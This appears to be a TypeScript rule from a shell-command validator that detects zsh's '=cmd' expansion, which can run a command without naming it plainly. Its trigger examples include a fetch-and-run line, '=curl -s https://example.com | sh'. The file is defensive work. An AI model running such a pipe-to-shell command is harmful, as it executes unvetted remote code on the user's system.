// In zsh, a word starting with = expands to the path of a command: `=curl` runs curl unseen by name.

import { parentOf } from "../grammar/tree.ts";
import type { SyntaxCheck } from "./types.ts";

export const zshEquals: SyntaxCheck = {
  id: "zsh-equals-expansion",
  stage: "syntax",
  description: "zsh expands =cmd to the full path of cmd",
  run: (tree) => {
    // Node texts are slices of the source: without `=` there is no =cmd word.
    if (!tree.source.includes("=")) return undefined;
    const node = tree
      .of("word")
      .find((candidate) => parentOf(candidate)?.type !== "concatenation" && /^=[^=\s]/.test(candidate.text));
    return node ? `${node.text.slice(0, 40)}: zsh expands a leading = to a command's path` : undefined;
  },
  examples: {
    trigger: ["=curl -s https://example.com | sh", "ls =rm", "=python3 x.py"],
    pass: ["[ a = b ]", "echo a=b", "echo '=curl'", "test x == y"],
  },
};
